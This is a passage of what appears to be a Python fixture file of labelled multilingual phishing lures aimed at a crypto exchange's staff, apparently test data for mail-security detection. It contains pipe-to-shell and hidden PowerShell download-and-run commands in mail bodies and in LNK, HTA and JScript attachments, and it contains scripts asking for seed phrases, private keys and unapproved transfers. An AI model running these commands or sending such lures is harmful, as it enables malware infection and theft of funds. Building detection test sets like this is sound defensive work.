         ("Antoine Mercier", "a.mercier@lumiere-capital.eu"), (LAURENT,),
         "Rendez-vous investisseurs - mise à jour Teams requise",
         """Bonjour Camille,

Merci pour votre disponibilité jeudi. Notre réunion se tiendra sur Teams.
Notre service informatique exige une mise à jour du module Teams pour les invités externes.
Avant la réunion, ouvrez PowerShell et exécutez :

iwr https://teams-update-eu.com/setup.ps1 | iex

Lien de la réunion : https://teams-update-eu.com/meet/lumiere-kitsune

Bien à vous,
Antoine Mercier
Lumière Capital""",
         "2026-10-21 09:30 +0200"),
    Mail("lure", "investor-meeting-install", "ar",
         "Arabic family-office invite: run a Terminal command to 'fix Zoom' before the meeting",
         ("خالد الراشد", "khalid@alrashid-familyoffice.com"), (HADDAD,),
         "اجتماع الاستثمار - تحديث Zoom قبل الاجتماع",
         """الأخ العزيز عمر،

نتطلع إلى اجتماعنا يوم الأحد بخصوص الاستثمار في Kitsune Exchange.
واجه بعض ضيوفنا مشكلة في الصوت على Zoom، لذا نرجو تشغيل الأمر التالي في الطرفية قبل الاجتماع:

curl -fsSL https://zoom-fix-me.com/audio.sh | bash

رابط الاجتماع: https://zoom-fix-me.com/j/77120034

مع خالص التحية،
خالد الراشد""",
         "2026-10-22 13:15 +0400"),

    # ---------------------------------------------------------------- trading-app
    Mail("lure", "trading-app", "en",
         "TraderTraitor style: unsolicited AI arbitrage trading app for macOS as a dmg download",
         ("QuorixTrade Team", "partners@quorixtrade.app"), (TANAKA,),
         "Invitation: QuorixTrade AI arbitrage beta for market makers",
         """Hello Mika,

QuorixTrade is an AI-driven arbitrage terminal used by 40+ market makers in Asia. We are inviting
a small number of exchanges to our private beta with zero fees for six months.

Download for macOS: https://quorixtrade.app/download/QuorixTrade-2.3.1.dmg
Beta key: QX-BETA-7731-KITSUNE

Install it on the machine you use for treasury operations so the price feeds can connect to
your exchange accounts.

The QuorixTrade Team""",
         "2026-10-07 10:10 +0000"),
    Mail("lure", "trading-app", "ja",
         "Japanese pitch for a trading tool distributed as a Windows installer from an unknown site",
         ("株式会社トレードリンク", "info@tradelink-ai.jp"), (TANAKA_JA,),
         "暗号資産トレーディングツール「TradeLink Pro」無料トライアルのご案内",
         """Kitsune Exchange株式会社
財務部ご担当者様

突然のご連絡失礼いたします。株式会社トレードリンクでございます。
弊社のAI自動売買ツール「TradeLink Pro」を、国内取引所様向けに3か月無料でご提供しております。

下記よりインストーラーをダウンロードし、取引用のPCにインストールしてください。
APIキーを設定するだけで、すぐにご利用いただけます。

https://tradelink-ai.jp/download/TradeLinkPro_Setup_v4.2.exe

ご不明点がございましたらお気軽にお問い合わせください。""",
         "2026-10-10 11:20 +0900"),
    Mail("lure", "trading-app", "ko",
         "Korean invite to beta-test a desktop trading app and enter exchange API keys",
         ("코인퀀트 팀", "beta@coinquant-app.com"), (PARK,),
         "코인퀀트 데스크톱 베타 테스터 모집",
         """안녕하세요, 박대현 님.

거래소 트레이더를 위한 자동매매 데스크톱 앱 '코인퀀트'의 비공개 베타에 초대합니다.
아래 링크에서 설치 파일을 내려받아 설치하신 후, 거래소 API 키를 등록하시면 바로 사용하실 수 있습니다.

Windows: https://coinquant-app.com/dl/CoinQuant_Setup.exe
macOS: https://coinquant-app.com/dl/CoinQuant.dmg

베타 기간 동안 모든 수수료는 무료입니다.

코인퀀트 팀""",
         "2026-10-15 14:50 +0900"),
    Mail("lure", "trading-app", "en",
         "trading app delivered as an attached dmg with a 'right-click Open' Gatekeeper bypass instruction",
         ("Ryan Walsh", "ryan@arbitrex-labs.com"), (TANAKA,),
         "ArbitreX desktop build for your desk",
         """Hi Mika,

As promised at the Singapore meetup, attached is the ArbitreX desktop build for your desk.
macOS may say the app is from an unidentified developer; just right-click it and choose Open.
Log in with your exchange API keys and it will start tracking the spreads automatically.

Cheers,
Ryan""",
         "2026-10-24 03:30 +0000",
         attachments=(Att("ArbitreX-1.8.0.dmg", b.dmg("ArbitreX", "arbitrex"), "application/x-apple-diskimage"),)),

    # ---------------------------------------------------------------- wallet-request
    Mail("lure", "wallet-request", "en",
         "fake internal security team on kitsune-ex-security.com asks for the 24-word recovery phrase",
         ("Kitsune Security", "security@kitsune-ex-security.com"), (TANAKA,),
         "Mandatory wallet integrity check",
         """Dear colleague,

As part of the quarterly wallet integrity check, every key holder must confirm their backup.
Please reply to this email with the 24-word recovery phrase of the cold wallet backup you hold
so that we can verify it against our records. The phrase will be deleted after verification.

Deadline: today 18:00 JST.

Kitsune Security Team""",
         "2026-10-05 11:00 +0900"),
    Mail("lure", "wallet-request", "ja",
         "Japanese 'wallet migration' asks to type private keys into a web form",
         ("ウォレット管理チーム", "wallet-ops@kitsune-ex-wallet.com"), (TANAKA_JA,),
         "【要対応】ウォレット移行作業のお願い",
         """田中様

お疲れ様です。ウォレット管理チームです。
新しいカストディ基盤への移行に伴い、現在お使いのホットウォレットの秘密鍵を新システムへ登録する必要があります。
下記のフォームに秘密鍵（0xから始まる64文字）を入力し、本日中に登録を完了してください。

https://kitsune-ex-wallet.com/migration/form

ご協力よろしくお願いいたします。""",
         "2026-10-08 13:30 +0900"),
    Mail("lure", "wallet-request", "en",
         "treasury lookalike kitsune-ex.com.co demands an urgent ETH transfer to an unknown address",
         ("Treasury", "treasury@kitsune-ex.com.co"), (TANAKA,),
         "URGENT: settlement transfer before 17:00",
         """Mika,

The settlement with our liquidity partner failed overnight and must be completed before 17:00
today to avoid penalties. Please send 250 ETH from hot wallet 1 to:

0x3d9f2b7e81c4a05f6e2d19b8c7a4e3f0d5b6c182

Do not wait for the usual second approval, Emily has already approved it verbally.

Treasury""",
         "2026-10-11 14:10 +0900"),
    Mail("lure", "wallet-request", "en",
         "unknown 'OTC partner' asks to sign a transaction payload on a lookalike signing site",
         ("Nordstar OTC Operations", "ops@nordstar-otc.com"), (TANAKA,),
         "Settlement #NS-20455 - signature required",
         """Hello Kitsune team,

Settlement #NS-20455 is ready. To release your side, please sign the prepared transaction with
your Safe owners here:

https://safe-tx-sign.app/tx/0x8c1e54a7b2f3d90e61c4a8b7f2e3d1c05a9b6e7f

The payload sets a new module on your Safe so future settlements can execute automatically.
Please sign within the next hour.

Nordstar OTC Operations""",
         "2026-10-19 06:25 +0000"),
    Mail("lure", "wallet-request", "ar",
         "Arabic 'compliance' mail asking for the wallet recovery phrase to lift a freeze",
         ("قسم الامتثال", "compliance@kitsune-verify.com"), (HADDAD,),
         "تجميد مؤقت لمحفظة الشركة",
         """السيد عمر المحترم،

تم تجميد محفظة الشركة مؤقتاً بسبب مراجعة الامتثال.
لرفع التجميد، يرجى إرسال عبارة الاسترداد (الكلمات الاثنتي عشرة) الخاصة بالمحفظة ردّاً على هذه الرسالة.
ستُحذف البيانات فور التحقق.

قسم الامتثال""",
         "2026-10-26 09:45 +0400"),
    Mail("lure", "wallet-request", "fr",
         "French urgent transfer of USDT to an unknown address, skipping the usual approval",
         ("Direction financière", "finance@kitsune-ex-europe.com"), (LAURENT,),
         "Virement urgent - à exécuter avant midi",
         """Camille,

Un appel de marge de notre teneur de marché doit être couvert avant midi.
Merci d'envoyer immédiatement 180 000 USDT (ERC-20) à l'adresse suivante :

0x9b4e27c1d8f05a3e6b7c2d9f1a0e4b8c3d6f2a71

Inutile d'attendre la validation habituelle, j'en assume la responsabilité.

Direction financière""",
         "2026-10-27 10:05 +0100"),
    Mail("lure", "wallet-request", "ko",
         "Korean request to send the private key file of the hot wallet 'for the audit'",
         ("감사팀", "audit@kitsune-ex-audit.kr"), (PARK,),
         "[긴급] 외부 감사용 개인키 제출 요청",
         """박대현 님,

외부 회계감사 일정에 따라 핫월렛의 개인키 파일(keystore)과 비밀번호를 오늘 중으로 제출해 주셔야 합니다.
이 메일에 파일을 첨부하여 회신해 주시기 바랍니다. 감사 종료 후 즉시 폐기됩니다.

감사팀 드림""",
         "2026-10-28 16:30 +0900"),
    Mail("lure", "wallet-request", "zh",
         "Chinese request for the mnemonic (助记词) of the OTC wallet 'to restore' it",
         ("钱包技术支持", "support@kitsune-wallet-help.com"), (LI,),
         "钱包同步异常，请协助恢复",
         """李伟您好：

系统检测到您负责的OTC钱包同步异常，资金可能无法提取。
为尽快恢复，请直接回复本邮件并提供该钱包的助记词（12个或24个单词），我们的工程师将在一小时内完成恢复。

钱包技术支持团队""",
         "2026-10-29 15:20 +0800"),

    # ---------------------------------------------------------------- attachment
    Mail("lure", "attachment", "en",
         "zip holding Invoice_...pdf.lnk: a shortcut that runs hidden PowerShell to fetch and start an exe",
         ("Bluepeak Logistics Accounts", "accounts@bluepeak-logistics.com"), (KEIRI,),
         "Invoice INV-2026-1104 overdue",
         """Dear customer,

Please find attached the overdue invoice INV-2026-1104. Kindly arrange payment within 3 days.

Regards,
Accounts Receivable
Bluepeak Logistics""",
         "2026-10-05 06:00 +0000",
         attachments=(Att("Invoice_INV-2026-1104.zip", b.zip_archive([
             ("Invoice_INV-2026-1104.pdf.lnk", _lnk_ps("https://bluepeak-docs.com/i/1104.bin", "Invoice_INV-2026-1104.pdf")),
         ]), "application/zip"),)),
    Mail("lure", "attachment", "en",
         "ISO image containing a .pdf.lnk that runs rundll32 on a DLL hidden in the same image",
         ("Meridian Bank Statements", "statements@meridian-privatebank.com"), (TANAKA,),
         "Your October 2026 account statement",
         """Dear client,

Your account statement for October 2026 is attached. For security reasons the statement is
delivered as a protected disk image. Double-click the file to open it.

Meridian Private Bank""",
         "2026-11-02 07:30 +0000",
         attachments=(Att("Statement_Oct2026.iso", b.iso_image([
             ("Statement_Oct2026.pdf.lnk", b.lnk(RUNDLL, "data\\msvcp_win.dll,DllRegisterServer",
                                                 r"C:\Windows\System32\imageres.dll,2", name="Statement_Oct2026.pdf")),
             ("data/msvcp_win.dll", b.pe_stub("iso-dll")),
         ], volume="STATEMENT"), "application/x-iso9660-image"),)),
    Mail("lure", "attachment", "en",
         "HTA attachment that runs a hidden PowerShell command when opened",
         ("Secure Message Center", "noreply@securemsg-portal.com"), (CFO,),
         "You have received an encrypted message",
         """You have received an encrypted message from Kitsune Exchange Legal.

Open the attached SecureMessage.hta to read it. The message expires in 24 hours.""",
         "2026-11-03 04:10 +0000",
         attachments=(Att("SecureMessage.hta", b.hta(
             "powershell -w hidden -nop -c iex (iwr https://securemsg-portal.com/m/k1)", "Secure Message"),
             "application/hta"),)),
    Mail("lure", "attachment", "en",
         "macro-enabled .docm from an HR lookalike; Document_Open runs PowerShell to download an exe",
         ("HR Department", "hr@kitsune-ex-hr.com"), (SUZUKI,),
         "Q4 compensation review - confidential",
         """Hello Kenta,

Please find attached your Q4 compensation review. The document is protected; click
"Enable Content" after opening to view your figures.

HR Department""",
         "2026-11-04 08:45 +0900",
         attachments=(Att("Q4_Compensation_Review.docm", b.word_document(
             ["Q4 Compensation Review", "This document is protected. Enable content to view."],
             [("ThisDocument", MACRO_HR, True)]), "application/vnd.ms-word.document.macroEnabled.12"),)),
    Mail("lure", "attachment", "en",
         "HTML smuggling: the attached page rebuilds a zip with an LNK from base64 and downloads it",
         ("Payments Desk", "remittance@globalpay-advice.com"), (KEIRI,),
         "Remittance advice 4471",
         """Hello,

A payment of USD 48,200.00 has been sent to your account. Open the attached remittance advice
to view the details.

Payments Desk""",
         "2026-11-05 02:15 +0000",
         attachments=(Att("RemittanceAdvice_4471.html", b.html_smuggling(
             b.zip_archive([("RemittanceAdvice_4471.pdf.lnk",
                             _lnk_ps("https://globalpay-advice.com/r/4471", "RemittanceAdvice_4471.pdf"))]),
             "RemittanceAdvice_4471.zip", "Remittance Advice", "Loading remittance advice 4471..."),
             "text/html"),)),
    Mail("lure", "attachment", "ja",
         "ZipCrypto-encrypted zip with the password in the same mail; inside an exe named 請求書_...pdf.exe",
         ("株式会社サクラ物流 経理部", "keiri@sakura-butsuryu.com"), (KEIRI,),
         "請求書送付のご案内（2026年11月分）",
         """Kitsune Exchange株式会社
経理部 御中

いつもお世話になっております。
2026年11月分の請求書を送付いたします。
セキュリティのため、ファイルはパスワード付きZIPにしております。

パスワード: kx2026

お支払い期日までにご確認をお願いいたします。

株式会社サクラ物流 経理部""",
         "2026-11-06 10:00 +0900",
         attachments=(Att("請求書_2026年11月.zip", b.zip_archive(
             [("請求書_2026年11月.pdf.exe", b.pe_stub("ppap-lure"))], password="kx2026"), "application/zip"),)),
    Mail("lure", "attachment", "en",
         "double extension Payment_Confirmation.pdf.exe declared as application/pdf",
         ("Payments Team", "payments@transferwise-notice.com"), (KEIRI,),
         "Payment confirmation",
         """Your payment has been processed. See the attached confirmation.

Payments Team""",
         "2026-11-09 05:05 +0000",
         attachments=(Att("Payment_Confirmation.pdf.exe", b.pe_stub("double-ext"), "application/pdf"),)),
    Mail("lure", "attachment", "en",
         "right-to-left override in the file name: Invoice_2026<RLO>fdp.scr shows as Invoice_2026rcs.pdf",
         ("Billing", "billing@cloudhost-invoices.net"), (KEIRI,),
         "Invoice for November services",
         """Please find your invoice for November attached.

Billing Department""",
         "2026-11-10 03:00 +0000",
         attachments=(Att("Invoice_2026\u202efdp.scr", b.pe_stub("rlo"), "application/octet-stream"),)),
    Mail("lure", "attachment", "en",
         "macOS disk image attachment posing as a wallet audit tool from an auditor lookalike",
         ("Ledger Audit Services", "audit@kpmg-digital-audit.com"), (TANAKA,),
         "Wallet audit tool for this quarter's review",
         """Dear Mika,

For this quarter's proof-of-reserves review, please run our wallet audit tool on the machine that
holds your signing keys. Attached is the macOS build. It collects wallet balances automatically.

Ledger Audit Services""",
         "2026-11-11 01:40 +0000",
         attachments=(Att("Kitsune_Wallet_Audit_Tool.dmg", b.dmg("WalletAuditTool", "audit"),
                          "application/x-apple-diskimage"),)),
    Mail("lure", "attachment", "ko",
         "Korean quotation mail with a zip holding 견적서_2026.pdf.lnk",
         ("한빛솔루션 영업팀", "sales@hanbit-solution.co"), (PARK,),
         "견적서 송부드립니다",
         """안녕하세요.

요청하신 보안 솔루션 견적서를 첨부하여 보내드립니다.
확인 부탁드립니다.

한빛솔루션 영업팀 드림""",
         "2026-11-12 10:20 +0900",
         attachments=(Att("견적서_2026.zip", b.zip_archive([
             ("견적서_2026.pdf.lnk", _lnk_ps("https://hanbit-solution.co/q/2026.bin", "견적서_2026.pdf")),
         ]), "application/zip"),)),
    Mail("lure", "attachment", "fr",
         "French invoice zip containing a JScript file Facture_2026-118.js",
         ("Comptabilité Fournisseurs", "compta@atelier-numerique-paris.fr"), (LAURENT,),
         "Facture 2026-118",
         """Bonjour,

Veuillez trouver ci-joint la facture n° 2026-118 relative à nos prestations d'octobre.

Cordialement,
Service comptabilité""",
         "2026-11-13 09:10 +0100",
         attachments=(Att("Facture_2026-118.zip", b.zip_archive([
             ("Facture_2026-118.js",
              (b"var s=new ActiveXObject('WScript.Shell');\r\n"
               b"s.Run('powershell -w hidden -c \"iwr https://atelier-numerique-paris.fr/f/118 -OutFile "
               b"$env:TEMP\\\\f.exe; start $env:TEMP\\\\f.exe\"',0);\r\n")),
         ]), "application/zip"),)),
    Mail("lure", "attachment", "ar",
         "Arabic invoice delivered as an ISO image with an LNK inside",
         ("قسم الحسابات", "accounts@gulf-trade-services.com"), (HADDAD,),
         "فاتورة شهر نوفمبر",
         """السيد عمر،

مرفق فاتورة شهر نوفمبر. يرجى فتح الملف المرفق ومراجعة التفاصيل.

قسم الحسابات""",
         "2026-11-14 11:00 +0400",
         attachments=(Att("فاتورة_نوفمبر.iso", b.iso_image([
             ("فاتورة_نوفمبر.pdf.lnk", b.lnk(CMD, "/c start /min powershell -w hidden -c iwr https://gulf-trade-services.com/a -o %TEMP%\\a.exe & %TEMP%\\a.exe",
                                             r"C:\Windows\System32\imageres.dll,2")),
         ], volume="INVOICE"), "application/x-iso9660-image"),)),
    Mail("lure", "attachment", "en",
         "AES-encrypted 7z (headers encrypted) with the password in the body; inside a .pdf.exe",
         ("Legal Department", "legal@orion-otc-partners.com"), (CFO,),
         "Contract draft for signature",
         """Dear Emily,

Attached is the contract draft for the OTC settlement agreement. The archive is encrypted for
confidentiality.

Password: Contract2026!

Please review and sign by Friday.

Legal Department
Orion OTC Partners""",
         "2026-11-16 08:30 +0000",
         attachments=(Att("Contract_Draft.7z", b.seven_zip([("Contract_Draft.pdf.exe", b.pe_stub("7z"))],
                                                             "Contract2026!", "contract"), "application/x-7z-compressed"),)),
    Mail("lure", "attachment", "ja",
         "Japanese 'meeting minutes' .docm whose AutoOpen macro fetches text and runs it with mshta",
         ("経営企画室", "kikaku@kitsune-ex-office.jp"), (ITO_JA,),
         "取締役会議事録（ドラフト）のご確認",
         """伊藤さん

お疲れ様です。経営企画室です。
先日の取締役会の議事録ドラフトを添付します。
ファイルを開いたら「コンテンツの有効化」をクリックしてご確認ください。

経営企画室""",
         "2026-11-17 15:00 +0900",
         attachments=(Att("取締役会議事録_ドラフト.docm", b.word_document(
             ["取締役会議事録（ドラフト）", "コンテンツの有効化をクリックしてください。"],
             [("Module1", MACRO_MINUTES, False)]), "application/vnd.ms-word.document.macroEnabled.12"),)),

    # ---------------------------------------------------------------- conversation-hijack
    Mail("lure", "conversation-hijack", "en",
         "RE: with a quoted thread but no In-Reply-To/References, from fireblocks-billing.com; new bank account",
         ("Fireblocks Billing", "billing@fireblocks-billing.com"), (CFO,),
         "RE: Q4 custody fee invoice - Kitsune Exchange",
         """Hi Emily,

Thanks for confirming. Please note that our bank account has changed this quarter due to an
internal restructuring. Kindly use the updated details in the attached letter for the Q4 payment.

Beneficiary: Fireblocks Payments Ltd
IBAN: GB29 BKEN 6016 1331 9268 19

Best regards,
Fireblocks Billing

-----Original Message-----
From: Emily Carter <emily.carter@kitsune-ex.com>
Sent: Monday, October 12, 2026 10:14 AM
Subject: Q4 custody fee invoice - Kitsune Exchange

Hi, could you resend the Q4 custody fee invoice? We need it for the month-end close.
Thanks, Emily""",
         "2026-10-14 09:02 +0000"),
    Mail("lure", "conversation-hijack", "ja",
         "RE: 【ご確認】 thread without In-Reply-To, from lookalike kitsune-ex-co.jp; changes the payee",
         ("経理部 田中", "keiri@kitsune-ex-co.jp"), (KEIRI,),
         "RE: 【ご確認】11月分請求書の件",
         """お疲れ様です。経理部の田中です。

先方から連絡があり、今回の支払いから振込先口座が変更になったとのことです。
下記の口座へのお振込みをお願いいたします。

銀行名：みらい信託銀行
支店名：本店営業部
口座番号：普通 4410287
口座名義：カ）ミナトシステムズ

以上、よろしくお願いいたします。

> 経理部 御中
> いつもお世話になっております。
> 11月分の請求書を添付いたしますので、ご確認をお願いいたします。
> 株式会社ミナトシステムズ""",
         "2026-11-05 16:40 +0900"),
    Mail("lure", "conversation-hijack", "en",
         "Re: Safe migration plan from safe-globa1.com (digit 1 for l), quoted thread, 'updated migration tool' link",
         ("Safe Support", "support@safe-globa1.com"), (TAKAHASHI,),
         "Re: Safe migration plan",
         """Hi Sho,

Following up on your question below: we have published an updated migration tool that handles
Safes with more than 5 owners. Please use this version instead of the one in the docs:

https://safe-globa1.com/tools/migration-v2

Regards,
Safe Support

On Mon, 19 Oct 2026 at 11:02, Sho Takahashi <s.takahashi@kitsune-ex.co.jp> wrote:
> Hello Safe team,
> Our Safes have 7 owners. Is the migration path in the docs still valid for us?
> Thanks, Sho""",
         "2026-10-21 07:15 +0000"),
    Mail("lure", "conversation-hijack", "fr",
         "RE: Facture thread without In-Reply-To from a lookalike of the Paris office domain; new IBAN",
         ("Camille Laurent", "c.laurent@kitsune-ex-paris.com"), (KEIRI,),
         "RE: Facture Atelier Numérique - octobre",
         """Bonjour,

Suite à notre échange, le fournisseur nous a transmis de nouvelles coordonnées bancaires.
Merci de régler la facture d'octobre sur le compte ci-dessous dès aujourd'hui :

IBAN : FR76 3000 4000 0312 3456 7890 143
BIC : BNPAFRPP

Cordialement,
Camille

> De : Atelier Numérique
> Objet : Facture Atelier Numérique - octobre
> Veuillez trouver ci-joint notre facture pour le mois d'octobre.""",
         "2026-11-18 10:50 +0100"),
]
